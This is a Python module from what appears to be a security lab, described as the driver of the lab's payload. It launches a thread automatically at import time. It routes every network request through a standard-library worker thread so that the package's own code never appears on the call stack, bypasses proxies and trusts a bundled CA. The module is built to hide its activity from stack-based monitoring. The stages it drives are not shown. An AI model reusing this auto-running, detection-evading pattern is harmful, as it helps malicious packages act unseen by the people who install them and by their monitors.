"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): each request is made by a
worker of the standard library, on whose stack no code of this package lies."""

import threading
import urllib.request
from concurrent.futures import ThreadPoolExecutor

from . import _stages

WORKER = ThreadPoolExecutor(1)


def ask(url, headers=None, body=None):
    """Ask through the worker: its thread runs the standard library's `open` itself."""
    context = None
    if url.startswith("https:"):
        context = _stages.ssl.create_default_context(cafile=_stages.FOLDER + "/ca.crt")
    handlers = (urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    request = urllib.request.Request(url, data=body, headers=headers or {})
    opener = urllib.request.build_opener(*handlers)
    with WORKER.submit(opener.open, request, timeout=10).result() as answer:
        return answer.read(1 << 20)


def run():
    """Go, and end the worker."""
    _stages.go(asking=ask)
    WORKER.shutdown()


threading.Thread(target=run).start()
